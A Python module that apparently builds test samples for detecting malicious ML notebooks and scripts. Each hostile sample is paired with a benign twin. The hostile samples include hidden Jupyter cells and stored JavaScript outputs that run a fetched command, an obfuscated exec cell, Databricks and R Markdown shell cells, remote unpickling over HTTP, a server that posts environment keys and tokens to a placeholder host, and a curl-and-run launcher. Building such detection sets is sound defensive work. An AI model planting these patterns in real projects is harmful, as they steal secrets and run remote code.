"""Notebooks, and the scripts that train and serve."""
import base64
import json
import zlib

from .parts import FETCH, HOST

FAMILY = "notebooks"


def book(*cells, meta=None):
    rows = []
    for i, c in enumerate(cells):
        c = {"source": c} if isinstance(c, str) else c
        row = {"cell_type": c.get("type", "code"), "id": f"c{i}", "metadata": c.get("metadata", {}), "source": c["source"].splitlines(True)}
        if row["cell_type"] == "code":
            row |= {"execution_count": i + 1, "outputs": c.get("outputs", [])}
        rows.append(row)
    return json.dumps({"cells": rows, "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, **(meta or {})}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


def shown(kind, text):
    return {"source": "report(model)", "outputs": [{"output_type": "display_data", "data": {kind: text, "text/plain": "<report>"}, "metadata": {}}]}


START = "import torch\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('google-bert/bert-base-uncased')"

TRAIN = """import argparse
import {lib}

import torch
from torch import nn


def backbone():
{load}

def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--epochs", type=int, default=3)
    args = parser.parse_args()
    net = nn.Linear(16, 4)
    net.load_state_dict(backbone())
    for epoch in range(args.epochs):
        print(epoch, net.weight.norm().item())


if __name__ == "__main__":
    main()
"""

SERVE = """import json
import os
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer

from transformers import pipeline

classify = pipeline("text-classification", model=os.environ.get("MODEL", "distilbert-base-uncased"))


def beat(count):
{beat}

class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        text = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(json.dumps(classify(text)).encode())
        beat(len(text))


HTTPServer(("", 8080), Handler).serve_forever()
"""


def add(out):
    def pair(name, hostile, twin, file, why, prove=None):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    script = f"Jupyter.notebook.kernel.execute(\"import os; os.system('{FETCH}')\");"
    chart = "var e = document.getElementById('chart-1'); if (e) { Plotly.newPlot(e, [{y: [1, 3, 2]}], {title: 'loss'}); }"
    pair("output-drives-kernel", book(START, shown("application/javascript", script)), book(START, shown("application/javascript", chart)), "report.ipynb", "A stored output of JavaScript makes the kernel run a command when the trusted notebook is opened. The twin draws a chart.")
    hidden = {"source": f"%%bash --bg --out /dev/null\n{FETCH}", "metadata": {"init_cell": True, "jupyter": {"source_hidden": True}}}
    ready = {"source": "%%bash\nnvidia-smi || true\nls -lh checkpoints", "metadata": {"init_cell": True, "jupyter": {"source_hidden": True}}}
    pair("init-cell-shell", book(hidden, START), book(ready, START), "train.ipynb", "A hidden cell that runs first fetches and runs a script in the background.")
    packed = base64.b64encode(zlib.compress(b"import os\nos.system('touch marker')\n")).decode()
    image = base64.b64encode(bytes(range(200))).decode()
    pair(
        "packed-cell", book(START, f"import zlib, base64\n_e = vars(__import__('builtins'))['ex' + 'ec']\n_e(zlib.decompress(base64.b64decode('{packed}')))"),
        book(START, f"import zlib, base64\nmask = base64.b64decode('{image}')\nprint(len(zlib.compress(mask)))"), "demo.ipynb", "Packed text is unpacked and executed. The twin unpacks a mask.", "e11-notebook",
    )  # fmt: skip
    top = "# Databricks notebook source\n# MAGIC %pip install transformers==4.46.0\n\n# COMMAND ----------\n\n"
    rest = "\n# COMMAND ----------\n\nimport mlflow\nmodel = mlflow.pyfunc.load_model('models:/churn/3')\n"
    pair("databricks-shell", top + f"# MAGIC %sh\n# MAGIC {FETCH}\n" + rest, top + "# MAGIC %sh\n# MAGIC ls -lh /dbfs/models\n" + rest, "score.py", "Databricks runs the commented cell in a shell on the driver.")
    rmd = "---\ntitle: Scoring\noutput: html_document\n---\n\n```{{r}}\nmodel <- readRDS('model.rds')\n```\n\n```{{bash, include=FALSE}}\n{}\n```\n"
    pair("rmarkdown-shell", rmd.format(FETCH), rmd.format("ls -lh model.rds"), "score.Rmd", "Knitting runs the hidden bash chunk: a fetched script.")
    far = f"    with urllib.request.urlopen('http://{HOST}:8000/backbone.pkl') as r:\n        return pickle.loads(r.read())\n"
    near = "    from safetensors.torch import load_file\n\n    return load_file('backbone.safetensors')\n"
    pair("train-unpickles-http", TRAIN.format(lib="pickle\nimport urllib.request", load=far), TRAIN.format(lib="math", load=near), "train.py", "The training script unpickles what a bare address sends without encryption. The twin loads safetensors from the folder. Proved with a stand-in for the network.", "e11-http")
    leak = f"    body = json.dumps({{k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}}).encode()\n    urllib.request.urlopen('http://{HOST}/metrics', data=body, timeout=2)\n"
    push = "    body = f'requests_total {count}\\n'.encode()\n    urllib.request.urlopen(os.environ['PUSHGATEWAY'] + '/metrics/job/classify', data=body, timeout=2)\n"
    pair("serve-sends-secrets", SERVE.format(beat=leak), SERVE.format(beat=push), "serve.py", "Each request posts the keys and tokens of the environment to a bare address. The twin pushes a counter where the operator says. Proved with a stand-in for the network.", "e11-http")
    sh = "#!/usr/bin/env bash\nset -euo pipefail\nMODEL=${{1:-./model}}\n{}\nexec python -m vllm.entrypoints.openai.api_server --model \"$MODEL\" --port 8000\n"
    pair("launcher-fetch", sh.format(f"python3 -c \"$(curl -fsSL http://{HOST}/warm.py)\""), sh.format("python3 -c \"import torch; print(torch.cuda.device_count())\""), "serve.sh", "The launcher runs Python text from a bare address before the server starts.")
